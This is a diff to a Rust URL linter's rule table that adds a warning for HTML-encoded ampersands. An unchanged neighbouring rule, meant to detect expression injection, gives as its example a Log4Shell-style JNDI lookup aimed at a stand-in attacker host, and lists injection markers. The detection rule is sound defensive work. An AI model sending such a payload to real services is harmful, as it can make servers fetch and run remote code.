@@ -15,7 +15,7 @@ use super::rule::Rule;
 
 /// The rules that only the feature `all-rules` checks.
 #[rustfmt::skip]
-pub(super) const MORE: [Row; 43] = [
+pub(super) const MORE: [Row; 44] = [
     // The grammar.
     Row {
         rule: Rule::InvalidScheme, name: "invalid-scheme", severity: Error, reference: "RFC 3986 3.1, 4.2",
@@ -324,5 +324,12 @@ pub(super) const MORE: [Row; 43] = [
         example: (Query, b"x=${jndi:ldap://evil.test/a}"), counterexample: b"x=$jndi",
         advice: "Never expand text that comes from outside.",
         needs: &text(&[ASCII_TRIPLET, &[b"{", b"T(", b"$(", b"(#", b"<"]]),
+    },
+    Row {
+        rule: Rule::HtmlAmpersand, name: "html-ampersand", severity: Warn, reference: "HTML 13.1.4",
+        message: "an `&` as HTML writes it: the next name begins with `amp;`",
+        example: (Query, b"a=1&amp;b=2"), counterexample: b"a=1&amp=2",
+        advice: "Copy the link from the page and not from its source, or decode the references of HTML first: `&`.",
+        needs: &pairs(&[&[b"&[aA#][mMxX03][pP0-9]"]]),
     },
 ];
